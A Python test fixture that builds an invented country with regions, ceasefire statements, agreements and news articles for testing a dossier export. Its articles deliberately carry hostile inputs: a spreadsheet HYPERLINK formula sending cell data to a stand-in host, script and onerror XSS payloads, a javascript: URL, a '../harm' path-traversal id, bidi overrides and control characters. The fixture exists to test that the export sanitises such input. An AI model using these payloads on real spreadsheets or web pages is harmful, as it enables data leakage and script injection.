"""A dossier of an invented country: official land, a hole, a circle, an area without a polygon, and articles that mean harm."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime

from shapely import box

from data.boundaries.sets import BoundarySet
from data.drawing.outlines import Disputed
from data.export.dossier import Dossier
from data.store import StoredReading
from geo.agreement import Agreement, AgreementType
from geo.article import Article, Language
from geo.edtf import Edtf
from geo.footprint import Atlas
from geo.gazetteer import Area, Gazetteer, Kind, Place, Region
from geo.span import Span
from geo.statement import Aspect, Basis, CoveredArea, Evidence, Grounds, Modality, Statement
from geo.status import Status

# In one sentence each: markup, a formula, a bidirectional override, a character outside of the first plane, signs that end a
# record of a bibliography, a control character that XML cannot hold.
FORMULA = '=HYPERLINK("http://harm.example/?x="&A1,"هدنة")'
MARKUP = "<script>alert('هدنة')</script><img src=x onerror=alert(1)>]]>&amp;"
BIDI = "‮دخلت الهدنة في 𝒢رب حيز التنفيذ‬"
RECORDS = "\r\nER  - \r\n\r\nTY  - BOOK\r\n@misc{x, title={}}\n"
CONTROL = "يوم\x0bالأحد\x00 ١٠ تموز"
TEXT = f"{FORMULA} {MARKUP}\r\n{BIDI} {RECORDS} {CONTROL} +1 -2 @3 {MARKUP}"
ENGLISH = "Talks on a truce in Nowhere go on.\nA truce was reached there last year, % 100 of it {held}.\n"


CORNER = Disputed(
    id="corner", country="QQ", name_en="The Corner", name_ar="الركن", note_en="", note_ar="", source="qq",
    polygon=box(11.5, 41.5, 13, 43),
)  # fmt: skip


def _place(id: str, kind: Kind, parent: str | None, name_en: str, name_ar: str, **more: object) -> Place:
    return replace(Place(id=id, kind=kind, country="QQ", parent=parent, name_en=name_en, name_ar=name_ar), **more)  # type: ignore[arg-type]


def gazetteer() -> Gazetteer:
    """A square country of two governorates; a region whose recipe names nothing."""
    places = [
        _place("QQ", Kind.COUNTRY, None, "Quadria", "رباعية"),
        _place("QQ01", Kind.GOVERNORATE, "QQ", "West Governorate", "محافظة الغرب", seat="qq/a", pcode="QQ01", wikidata="Q1"),
        _place("QQ02", Kind.GOVERNORATE, "QQ", "East Governorate", "محافظة الشرق", pcode="QQ02"),
        _place("QQ0101", Kind.DISTRICT, "QQ01", "A District", "منطقة أ", seat="qq/a"),
        _place("QQ0201", Kind.DISTRICT, "QQ02", "B District", "منطقة ب"),
        _place("QQ010101", Kind.SUBDISTRICT, "QQ0101", "A Subdistrict", "ناحية أ", seat="qq/a"),
        _place("QQ020101", Kind.SUBDISTRICT, "QQ0201", "B Subdistrict", "ناحية ب"),
        _place("qq/a", Kind.CITY, "QQ010101", "A", "أ", lon=10.5, lat=41.0, geonames="77", position_error_km=1.3),
        _place("qq/nowhere", Kind.REGION, "QQ", "Nowhere", "لا مكان"),
    ]
    regions = [Region(place="qq/nowhere", core=("qq/atlantis",))]
    return Gazetteer(places={p.id: p for p in places}, names=(), regions={r.place: r for r in regions})


def atlas() -> Atlas:
    land = {"QQ010101": box(10, 40, 11, 42), "QQ020101": box(11, 40, 12, 42)}
    return Atlas(gazetteer(), {}, official={"QQ": land}, disputed={"corner": CORNER.polygon})


def articles() -> dict[str, Article]:
    found = [
        Article(id="../harm", text=TEXT, language=Language.ARABIC, title=FORMULA, publisher="@Agency & {Söhne} 100 % of_it\n#1",
                url="https://news.example/a?b=1&c=%D8%A7#<x>", published=Edtf.parse("2017-07-10~"),
                published_basis="+printed\x0b below"),
        Article(id="plain", text=ENGLISH, language=Language.ENGLISH),
        Article(id="silent", text="Nothing of a truce here.", language=Language.ENGLISH, url="javascript:alert(1)",
                published=Edtf.parse("2018")),
    ]  # fmt: skip
    return {article.id: article for article in found}


def _evidence(article: Article, quote: str, aspect: Aspect) -> Evidence:
    start = article.text.index(quote)
    return Evidence(span=Span(start, start + len(quote)), quote=quote, aspect=aspect)


def statements() -> tuple[Statement, ...]:
    harm, plain = articles()["../harm"], articles()["plain"]
    first = Statement(
        id="s1", article="../harm", agreement="known-2017", type=AgreementType.CEASEFIRE, areas=(CoveredArea(area="QQ01"),),
        excluded=("qq/a",), status=Status.IN_FORCE, modality=Modality.REPORTED, attribution=Span(0, 10),
        signed=Edtf.parse("2017-07-07"), effective=Edtf.parse("2017-07-09"), until=None, expected=None, sponsors=("QQ",),
        guarantors=(),
        evidence=(_evidence(harm, FORMULA, Aspect.COVERAGE), _evidence(harm, BIDI, Aspect.STATUS)),
    )  # fmt: skip
    breach = replace(
        first, id="s2", areas=(CoveredArea(area="QQ02"), CoveredArea(area="QQ01")), status=Status.VIOLATED, signed=None,
        effective=None, excluded=(), evidence=(_evidence(harm, MARKUP, Aspect.STATUS),), attribution=None,
    )  # fmt: skip
    truce = replace(
        first, id="s3", areas=(CoveredArea(area="QQ02", partial=True),), excluded=(), until=Edtf.parse("2017-08"),
        evidence=(_evidence(harm, CONTROL, Aspect.STATUS),), modality=Modality.ASSERTED, attribution=None,
    )  # fmt: skip
    talks = replace(
        first, id="s4", article="plain", agreement="described-1", type=AgreementType.HUMANITARIAN_PAUSE, excluded=(),
        areas=(CoveredArea(area="qq/nowhere"),), status=Status.NEGOTIATING, modality=Modality.POSSIBLE, attribution=None,
        signed=None, effective=None, sponsors=(), evidence=(_evidence(plain, "Talks on a truce in Nowhere", Aspect.STATUS),),
    )  # fmt: skip
    town = replace(
        talks, grounds=Grounds(basis=Basis.WORDS, likelihood=0.96),
        id="s5", areas=(CoveredArea(area="qq/a"),), status=Status.AGREED, modality=Modality.ASSERTED,
        signed=Edtf.parse("2016-11"), evidence=(_evidence(plain, "A truce was reached there last year", Aspect.AGREEMENT),),
    )  # fmt: skip
    return first, breach, truce, talks, town


def agreements() -> dict[str, Agreement]:
    found = [
        Agreement(id="described-1", name_en="Humanitarian pause · Nowhere", name_ar="هدنة إنسانية · لا مكان",
                  type=AgreementType.HUMANITARIAN_PAUSE, known=False, areas=("qq/nowhere",)),
        Agreement(id="known-2017", name_en="=The West & East ceasefire", name_ar="هدنة الغرب <والشرق>",
                  type=AgreementType.CEASEFIRE, known=True, signed=Edtf.parse("2017-07-07"),
                  in_force=Edtf.parse("2017-07-09"), ended=Edtf.parse("2018-06"), sponsors=("QQ",), mediators=("QQ",),
                  areas=("QQ01", "QQ02"), sources=("https://pact.example/1",)),
    ]  # fmt: skip
    return {agreement.id: agreement for agreement in found}


def readings() -> Mapping[str, StoredReading]:
    return {
        id: StoredReading(article=id, sha256=article.sha256, reader="1+abc", read_at=datetime(2026, 1, 2, tzinfo=UTC),
                          seconds=0.1, mentions=3, unresolved=1, timexes=2, statements=2, agreements=1)
        for id, article in articles().items() if id != "plain"
    }  # fmt: skip


def dossier() -> Dossier:
    """All of it; `plain` has lost the row of its reading."""
    published = BoundarySet(
        country="QQ", dataset="qq", formats=(), addresses=(), units=(2, 2, 2), codes=frozenset(),
        attribution_en="Quadria, by its publisher", attribution_ar="رباعية، من ناشرها", disclaimer_en="No side is taken.",
        disclaimer_ar="لا ينحاز لأحد.",
    )  # fmt: skip
    source = {"title": "Quadria <b>", "publisher": "Its office", "licence": "CC0", "url": "https://qq.example/"}
    return Dossier(
        articles=articles(), statements=statements(), agreements=agreements(), readings=readings(), gazetteer=gazetteer(),
        atlas=atlas(), version="1+0123456789ab", reference_sha256="0123456789ab" + "0" * 52, sources={"qq": source},
        boundaries={"QQ": published}, disputed={"corner": CORNER}, ground={"QQ": box(10, 40, 12, 42)},
    )  # fmt: skip


def area_names() -> dict[str, str]:
    """The English names of the zones' areas by their keys."""
    known = gazetteer()
    return {key: known.name(Area.parse(key), "en") for key in ("QQ01", "QQ02", "qq/nowhere", "qq/a")}
